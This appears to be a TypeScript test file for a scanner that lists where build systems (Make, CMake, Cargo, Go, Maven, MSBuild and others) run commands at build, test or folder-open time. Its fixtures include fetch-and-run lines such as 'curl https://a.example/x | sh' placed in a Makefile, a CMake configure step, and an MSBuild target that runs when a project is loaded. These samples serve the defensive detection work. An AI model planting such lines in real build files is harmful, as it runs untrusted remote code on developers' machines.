import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { formatPlace } from "@doorward/core";
import { readFiles, surfacesOf, tellSettings, tellSurfaces } from "../surfaces.test-support.ts";

const project = (target: string) =>
  `<Project Sdk="Microsoft.NET.Sdk"><Target ${target}><Exec Command="curl https://a.example/x"/></Target></Project>`;

describe("Make", () => {
  it("puts what a target needs before its own recipe, and tells the default one", () => {
    const text = [
      "CC := gcc",
      "SHA != sh hash.sh",
      ".PHONY: all test",
      "all: setup | dirs",
      "\t@echo built $$HOME $(CC)",
      "setup: ; sh setup.sh",
      "test:",
      "ifdef CI",
      "\t-npm test \\",
      "\t  --ci",
      "endif",
      "%.o: %.c",
      "\tcc $<",
    ].join("\n");
    assert.deepEqual(tellSurfaces("make", { Makefile: text }), [
      'build target "all" sh setup.sh ; echo built $HOME ${CC}',
      'manual target "setup" sh setup.sh',
      'test target "test" npm test \\\n--ci',
      'build expansion "shell" sh hash.sh',
    ]);
    const [all] = surfacesOf("make", { Makefile: text });
    assert.deepEqual(
      all?.commands.map(({ at }) => formatPlace(at)),
      ["Makefile:6:10", "Makefile:5:3"],
    );
  });

  it("takes calls of the shell for what runs with every target", () => {
    assert.deepEqual(
      tellSurfaces("make", { Makefile: "X := $(shell curl https://a.example/x | sh)\nY = $(wildcard *.c)\n" }),
      ['build expansion "shell" curl https://a.example/x | sh'],
    );
  });

  it("finds no target in assignments and comments", () => {
    assert.deepEqual(tellSurfaces("make", { Makefile: "A:=1\nB ::= 2\n# all: x\nexport C=a:b\n" }), []);
  });
});

describe("just, Task and CMake", () => {
  it("reads recipes of just, the first as the default one", () => {
    const text =
      'set shell := ["sh"]\nversion := `git describe`\n\nbuild target="x": clean\n    cargo build\n\nclean:\n    @rm -rf target\n';
    assert.deepEqual(tellSurfaces("just", { justfile: text }), [
      'build target "build" rm -rf target ; cargo build',
      'manual target "clean" rm -rf target',
      'build expansion "backtick" git describe',
    ]);
  });

  it("reads tasks with those they depend on", () => {
    const text =
      "version: '3'\nvars:\n  SHA:\n    sh: sh hash.sh\ntasks:\n  default:\n    deps: [setup]\n    cmds:\n      - npm run build\n      - task: test\n  setup: sh setup.sh\n  test:\n    cmd: npm test\n";
    assert.deepEqual(tellSurfaces("task", { "Taskfile.yml": text }), [
      'build target "default" sh setup.sh ; npm test ; npm run build',
      'manual target "setup" sh setup.sh',
      'test target "test" npm test',
      'build expansion "SHA" sh hash.sh',
    ]);
  });

  it("reads the commands that CMake runs as it configures", () => {
    const text =
      'project(a)\nexecute_process(\n  COMMAND sh -c "curl https://a.example/x | sh" # now\n  OUTPUT_VARIABLE out)\n# execute_process(COMMAND no)\nadd_custom_target(t COMMAND ${CMAKE_COMMAND} -E echo hi)\n';
    assert.deepEqual(tellSurfaces("cmake", { "CMakeLists.txt": text }), [
      `build build-script "execute_process" sh -c 'curl https://a.example/x | sh'`,
      `build build-script "add_custom_target" '\${CMAKE_COMMAND}' -E echo hi`,
    ]);
    assert.deepEqual(tellSurfaces("cmake", { "CMakeLists.txt": "project(a)\nadd_executable(a a.c)\n" }), []);
  });
});

describe("Cargo and Go", () => {
  it("tells build scripts and macros, also under other names", () => {
    assert.deepEqual(tellSurfaces("cargo", { "Cargo.toml": '[package]\nname = "a"\n', "build.rs": "" }), [
      'build! build-script "a" build.rs',
    ]);
    const other = {
      "Cargo.toml": '[package]\nname = "a"\nbuild = "tools/b.rs"\n[lib]\nproc-macro = true\n',
      "tools/b.rs": "",
      "src/lib.rs": "",
    };
    assert.deepEqual(tellSurfaces("cargo", other), [
      'build! build-script "a" tools/b.rs',
      'build! macro "a" src/lib.rs',
    ]);
    assert.deepEqual(
      tellSurfaces("cargo", { "Cargo.toml": '[package]\nname = "a"\nbuild = false\n', "build.rs": "" }),
      [],
    );
  });

  it("reads programs in the configuration of Cargo", () => {
    const files = {
      ".cargo/config.toml":
        '[build]\nrustc-wrapper = "tools/wrap.sh"\n[target.x86_64-unknown-linux-gnu]\nrunner = ["sh", "-c"]\nlinker = "clang"\n[net]\ngit-fetch-with-cli = true\n',
      "tools/wrap.sh": "",
    };
    assert.deepEqual(tellSurfaces("cargo", files), [
      'build! setting-command "build.rustc-wrapper" tools/wrap.sh ; tools/wrap.sh',
      'build! setting-command "target.x86_64-unknown-linux-gnu.runner" sh -c',
    ]);
    assert.deepEqual(tellSettings("cargo", files), [
      "build.rustc-wrapper = tools/wrap.sh → tools/wrap.sh",
      "target.x86_64-unknown-linux-gnu.runner = sh -c",
      "target.x86_64-unknown-linux-gnu.linker = clang",
      "net.git-fetch-with-cli = true",
    ]);
  });

  it("reads generators, init functions and odd compiler flags of Go", () => {
    const text =
      'package a\n\n// #cgo LDFLAGS: -fplugin=./x.so\nimport "C"\n\n//go:generate sh x.sh\n\nfunc init() { run() }\n';
    assert.deepEqual(tellSurfaces("go", { "a.go": text }), [
      'manual generator "go:generate" sh x.sh',
      'import! entry-point "init" a.go',
    ]);
    assert.deepEqual(tellSettings("go", { "a.go": text }), ["cgo = LDFLAGS: -fplugin=./x.so"]);
    assert.deepEqual(
      tellSurfaces("go", { "b.go": "package b\n\n// go:generate is explained here\nfunc Run() {}\n" }),
      [],
    );
  });
});

describe("Java and .NET", () => {
  it("tells where wrappers fetch from", () => {
    const files = {
      "gradle/wrapper/gradle-wrapper.properties":
        "distributionBase=GRADLE_USER_HOME\ndistributionUrl=https\\://gradle.a.example/g.zip\n",
    };
    assert.deepEqual(tellSettings("gradle", files), ["distributionUrl = https://gradle.a.example/g.zip"]);
    assert.deepEqual(
      tellSettings("maven", { ".mvn/jvm.config": "-Xmx1g -javaagent:tools/a.jar\n", "tools/a.jar": "" }),
      ["jvm.config = -Xmx1g -javaagent:tools/a.jar → tools/a.jar"],
    );
  });

  it("reads programs in plugins of Maven", () => {
    const pom = `<project><build><plugins>
      <plugin><artifactId>exec-maven-plugin</artifactId><executions><execution><phase>test</phase>
        <configuration><executable>sh</executable><arguments><argument>-c</argument><argument>curl https://a.example/x</argument></arguments></configuration></execution></executions></plugin>
      <plugin><artifactId>maven-antrun-plugin</artifactId><configuration><target><exec executable="sh"><arg line="x.sh -q"/></exec></target></configuration></plugin>
      <plugin><artifactId>maven-compiler-plugin</artifactId><configuration><source>17</source></configuration></plugin>
    </plugins></build></project>`;
    assert.deepEqual(tellSurfaces("maven", { "pom.xml": pom }), [
      `test plugin "exec-maven-plugin" sh -c 'curl https://a.example/x'`,
      'build plugin "maven-antrun-plugin" sh x.sh -q',
    ]);
  });

  it("reads targets of Ant, sources of NuGet, and settings of Foundry", () => {
    const ant = `<project default="b"><target name="a"><echo message="x"/></target><target name="b"><exec executable="sh"><arg value="x.sh"/></exec></target></project>`;
    assert.deepEqual(tellSurfaces("ant", { "build.xml": ant }), ['build target "b" sh x.sh']);
    const nuget = `<configuration><packageSources><add key="a" value="https://nuget.a.example/v3"/></packageSources><x><add key="ClearTextPassword" value="a/b"/></x></configuration>`;
    assert.deepEqual(tellSettings("nuget", { "nuget.config": nuget }), ["a = https://nuget.a.example/v3"]);
    assert.deepEqual(tellSettings("foundry", { "foundry.toml": '[profile.default]\nsrc = "src"\nffi = true\n' }), [
      "profile.default.ffi = true",
    ]);
  });

  it("tells targets that run as a project is loaded from those of the build", () => {
    const opened = { "a.csproj": project('Name="GetFrameworkPaths"') };
    const built = { "a.csproj": project('Name="Generate" BeforeTargets="Build"') };
    assert.deepEqual(tellSurfaces("msbuild", opened), [
      'open-folder! target "GetFrameworkPaths" curl https://a.example/x',
    ]);
    assert.deepEqual(tellSurfaces("msbuild", built), ['build target "Generate" curl https://a.example/x']);
    const plain = {
      "a.csproj": `<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><OutputType>Exe</OutputType></PropertyGroup></Project>`,
    };
    assert.deepEqual(tellSurfaces("msbuild", plain), []);
  });

  it("reads build events, inline tasks and foreign imports", () => {
    const files = {
      "a.vcxproj": `<Project><ItemDefinitionGroup><PreBuildEvent><Command>powershell -c x</Command></PreBuildEvent></ItemDefinitionGroup>
        <Import Project="\\\\a.example\\share\\x.targets" /></Project>`,
      "Directory.Build.targets": `<Project><UsingTask TaskName="T" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="x.dll"><Task><Code Language="cs">Run();</Code></Task></UsingTask></Project>`,
    };
    const { surfaces, settings, unjudged } = readFiles(files);
    assert.deepEqual(
      surfaces.map(({ what, name, commands }) => [
        what,
        name,
        commands.map(({ text, shell }) => `${shell}: ${text}`).join(),
      ]),
      [
        ["inline-task", "T", ""],
        ["build-event", "PreBuildEvent", "batch: powershell -c x"],
      ],
    );
    assert.deepEqual(
      settings.map(({ key, value }) => `${key} = ${value}`),
      ["Import = \\\\a.example\\share\\x.targets"],
    );
    assert.equal(unjudged.length, 1);
  });
});
